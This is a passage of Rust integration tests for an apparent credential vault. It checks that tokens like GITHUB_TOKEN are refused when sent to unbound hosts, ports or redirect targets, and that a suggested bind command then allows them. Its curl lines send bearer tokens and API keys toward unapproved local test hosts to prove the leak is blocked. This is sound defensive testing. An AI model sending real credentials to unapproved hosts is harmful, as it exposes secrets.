        format!("302 https://other.test:{}/landing4", s.other.port)
    );
    assert!(s.other.seen().is_empty(), "{:#?}", s.other.seen());
    let refused: Vec<_> = s
        .violations()
        .into_iter()
        .filter(|v| {
            v["rule"] == "credential"
                && v["entry"] == "env:GITHUB_TOKEN"
                && v["reason"].as_str().unwrap().contains("(Location)")
        })
        .collect();
    assert_eq!(refused.len(), 3, "{:#?}", s.violations());
    let events = fs::read_to_string(s.env.loop_dir(&s.id).join("events.jsonl")).unwrap();
    assert_no_form("events.jsonl", &events);
}

/// Another port of a bound host is another host: the placeholder toward it is refused,
/// and the refusal names the command that binds the entry there too; run as it stands,
/// the same request then reaches that port with the value. The same for another entry's
/// host.
#[test]
fn another_port_gets_the_placeholder_refused_until_bound_there() {
    let s = Setup::new();
    let second = Https::start(&s.ca, None);
    let script = format!(
        "SECOND={}\n{}",
        second.port,
        r#"
curl -sS -o port.txt -w 'port => %{http_code}\n' -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.bound.test:$SECOND/port"
curl -sS -o entry.txt -w 'entry => %{http_code}\n' -H "x-api-key: $LLM_KEY" "https://api.bound.test:$BOUND/entry"
"#
    );
    let run = s.sh(&script).ok();
    assert_eq!(probe(&run, "port"), "403");
    assert_eq!(probe(&run, "entry"), "403");
    assert!(second.seen().is_empty());
    let port_body = fs::read_to_string(s.env.workdir(&s.id).join("port.txt")).unwrap();
    let (p1, p2) = (s.bound.port, second.port);
    assert!(
        port_body.contains(&format!(
            "fix: git loop vault bind default env:GITHUB_TOKEN api.bound.test:{p1},api.bound.test:{p2}\n"
        )),
        "{port_body}"
    );
    let entry_body = fs::read_to_string(s.env.workdir(&s.id).join("entry.txt")).unwrap();
    assert!(
        entry_body.contains(&format!(
            "fix: git loop vault bind default env:LLM_KEY llm.bound.test:{p1},api.bound.test:{p1}\n"
        )),
        "{entry_body}"
    );
    // The violations carry the same commands.
    let fixes: Vec<String> = s
        .violations()
        .iter()
        .filter_map(|v| v["fix"].as_str().map(str::to_string))
        .collect();
    assert_eq!(fixes.len(), 2, "{fixes:?}");
    apply_fix(&s.env, &port_body);
    apply_fix(&s.env, &entry_body);
    let run = s.sh(&script).ok();
    assert_eq!(probe(&run, "port"), "200");
    assert_eq!(probe(&run, "entry"), "200");
    assert_eq!(
        second.seen()[0].headers["authorization"],
        format!("Bearer {TOKEN}")
    );
    let seen = s.bound.seen();
    assert_eq!(
        seen.iter().find(|r| r.path == "/entry").unwrap().headers["x-api-key"],
        OTHER
    );
}
